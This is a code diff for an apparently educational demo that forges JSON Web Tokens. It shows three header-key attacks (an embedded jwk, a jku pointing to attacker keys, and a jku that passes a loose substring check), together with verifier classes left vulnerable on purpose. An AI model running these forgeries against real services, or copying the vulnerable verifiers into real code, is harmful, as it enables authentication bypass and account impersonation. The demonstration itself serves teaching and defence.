@@ -1,37 +1,45 @@
-"""The forger brings her own key, or says where it can be had."""
+"""`jwk` and `jku`: the token brings the key, or says where to fetch it.
+
+The verifier pins the algorithm.  That does not help, because the key is
+the forger's own.  Source: RFC 7515 sections 4.1.2 and 4.1.3, RFC 8725
+section 3.10.
+"""
 
 import base64
 import json
 from typing import Any
+from urllib.request import urlopen
 
 import jwt
 
 from demo.attacks.base import Attack, Attacker
-from demo.attacks.forgery import alices_claims, header, with_token
+from demo.attacks.forging import by_key, own_key, signed_by, told
+from demo.attacks.key_confusion import jwk_of
+from demo.attacks.turning import Flip, overriding
 from demo.contenders import contender
+from demo.errors import BadSignature
 from demo.harness import Client
-from demo.keys import Key, key_for
-from demo.unsafe.header_keys import (
-    CHECKS_JKU_LOOSELY,
-    FOLLOWS_JKU,
-    TRUSTS_JWK,
-)
-from demo.unsafe.key_texts import jwk_of
+from demo.keys import Key
+from demo.schemes import JWT
+
+FIXED = contender("JWT RS256")
 
 
-def own_key(attacker: Attacker) -> Key:
-    """Mallory's, for the algorithm that the service expects."""
-    alices_claims(attacker)
-    return key_for(attacker.service.contender.algorithm, "mallory")
+def by_jwk(scheme: JWT, jwk: dict[str, Any], token: str) -> dict[str, Any]:
+    """Header and payload, verified by this JSON Web Key."""
+    return by_key(scheme, jwt.PyJWK(jwk, scheme.key.algorithm).key, token)
 
 
-def signed_by(attacker: Attacker, key: Key, **more: Any) -> Client:
-    """Alice's claims, signed by Mallory, with more in the header."""
-    claims = alices_claims(attacker)
-    token = jwt.encode(
-        claims, key.signing, key.algorithm, headers=header(**more)
-    )
-    return with_token(attacker, token)
+def by_jwks(scheme: JWT, url: str, token: str) -> dict[str, Any]:
+    """The same, by the first key of the set at this address."""
+    return by_jwk(scheme, json.loads(fetched(url))["keys"][0], token)
+
+
+def fetched(url: str) -> bytes:
+    """What is at an address.  It may be a `data:` URL, which holds its
+    own content, so that nothing here leaves the machine."""
+    with urlopen(url) as answer:
+        return bytes(answer.read())
 
 
 def data_url(content: bytes, about: str = "application/json") -> str:
@@ -44,24 +52,31 @@ def key_set(key: Key) -> bytes:
     return json.dumps({"keys": [jwk_of(key)]}).encode()
 
 
+# The key in the header
+
+
+class TrustsJwk(JWT):
+    """Overrides `decode`: it verifies by the key that the header brings,
+    if there is one."""
+
+    def decode(self, token: str) -> dict[str, Any]:
+        jwk = told(token, "jwk")
+        return by_jwk(self, jwk, token) if jwk else super().decode(token)
+
+
+TRUSTS_JWK = Flip(
+    "where the key is from",
+    "the token's jwk",
+    overriding(JWT, TrustsJwk, "RS256", "ES256", "EdDSA"),
+    tempting="option: jose (npm), EmbeddedJWK",
+)
+
+
 def forge_jwk(attacker: Attacker) -> Client:
+    """Mallory signs, and puts her own public key into the header."""
     key = own_key(attacker)
     return signed_by(attacker, key, jwk=jwk_of(key))
 
-
-def forge_jku(attacker: Attacker) -> Client:
-    key = own_key(attacker)
-    return signed_by(attacker, key, jku=data_url(key_set(key)))
-
-
-def forge_jku_with_our_name(attacker: Attacker) -> Client:
-    """The bank's name is in the address, and means nothing there."""
-    key = own_key(attacker)
-    url = data_url(key_set(key), "application/json;at=bank.test")
-    return signed_by(attacker, key, jku=url)
-
-
-FIXED = contender("JWT RS256")
 
 EMBEDDED_JWK = Attack(
     id="embedded-jwk",
@@ -72,7 +87,33 @@ EMBEDDED_JWK = Attack(
     forge=forge_jwk,
     fixed=FIXED,
     flip=TRUSTS_JWK,
+    chapter="forge-the-token",
+    releases=("node_jose_jwk_header", "authlib_jwk_header"),
 )
+
+# The address of the keys in the header
+
+
+class FollowsJku(JWT):
+    """Overrides `decode`: it fetches the keys from where the header says,
+    if the header says so."""
+
+    def decode(self, token: str) -> dict[str, Any]:
+        url = told(token, "jku")
+        return by_jwks(self, url, token) if url else super().decode(token)
+
+
+FOLLOWS_JKU = Flip(
+    "where the key is from", "the token's jku", overriding(JWT, FollowsJku)
+)
+
+
+def forge_jku(attacker: Attacker) -> Client:
+    """Mallory signs, and names the address of her own keys."""
+    key = own_key(attacker)
+    return signed_by(attacker, key, jku=data_url(key_set(key)))
+
+
 JKU = Attack(
     id="jku",
     name="an address for the keys",
@@ -82,7 +123,37 @@ JKU = Attack(
     forge=forge_jku,
     fixed=FIXED,
     flip=FOLLOWS_JKU,
+    chapter="forge-the-token",
 )
+
+# The same, behind a check of the address that looks too briefly
+
+
+class ChecksJkuLoosely(JWT):
+    """Overrides `decode`: it fetches the keys from any address in which
+    the bank's name occurs."""
+
+    def decode(self, token: str) -> dict[str, Any]:
+        url = told(token, "jku")
+        if url and "bank.test" not in url:
+            raise BadSignature("not our address")
+        return by_jwks(self, url, token) if url else super().decode(token)
+
+
+CHECKS_JKU_LOOSELY = Flip(
+    "where the key is from",
+    "the token's jku, if our name is in it",
+    overriding(JWT, ChecksJkuLoosely),
+)
+
+
+def forge_jku_with_our_name(attacker: Attacker) -> Client:
+    """The bank's name is in the address, where it means nothing."""
+    key = own_key(attacker)
+    url = data_url(key_set(key), "application/json;at=bank.test")
+    return signed_by(attacker, key, jku=url)
+
+
 JKU_SUBSTRING = Attack(
     id="jku-substring",
     name="an address with the bank's name in it",
@@ -92,5 +163,7 @@ JKU_SUBSTRING = Attack(
     forge=forge_jku_with_our_name,
     fixed=FIXED,
     flip=CHECKS_JKU_LOOSELY,
+    chapter="forge-the-token",
 )
-HEADER_KEY_ATTACKS = (EMBEDDED_JWK, JKU, JKU_SUBSTRING)
+
+ATTACKS = (EMBEDDED_JWK, JKU, JKU_SUBSTRING)
